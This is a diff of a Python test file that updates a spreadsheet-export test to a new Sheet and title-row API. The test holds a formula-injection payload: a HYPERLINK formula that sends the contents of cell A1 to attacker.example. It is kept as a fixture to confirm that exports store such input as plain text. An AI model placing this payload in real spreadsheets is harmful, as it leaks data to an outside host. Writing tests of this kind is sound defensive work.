@@ -8,16 +8,19 @@ import io
 from openpyxl import Workbook, load_workbook
 
 from cchc.core.spreadsheets import append_row
-from cchc.tracking.exports import _workbook
+from cchc.tracking.exports import TITLE_ROWS, Sheet, _workbook
 
 EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
 
 
 def test_write_only_exports_keep_text_as_text():
-    data = _workbook("Nhiệm vụ", ["Nội dung", "Tỷ lệ"], [[EVIL, 50], ["Bình thường", 100]], [40, 10])
+    data = _workbook(
+        Sheet("Nhiệm vụ", ["Nhiệm vụ"], ["Nội dung", "Tỷ lệ"], [[EVIL, 50], ["Bình thường", 100]], [40, 10])
+    )
     sheet = load_workbook(io.BytesIO(data)).active
-    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s"
-    assert sheet["B2"].value == 50 and sheet["A3"].value == "Bình thường"
+    first = TITLE_ROWS + 2  # the title lines, the header, then the first row
+    assert sheet[f"A{first}"].value == EVIL and sheet[f"A{first}"].data_type == "s"
+    assert sheet[f"B{first}"].value == 50 and sheet[f"A{first + 1}"].value == "Bình thường"
 
 
 def test_normal_sheets_keep_text_as_text():
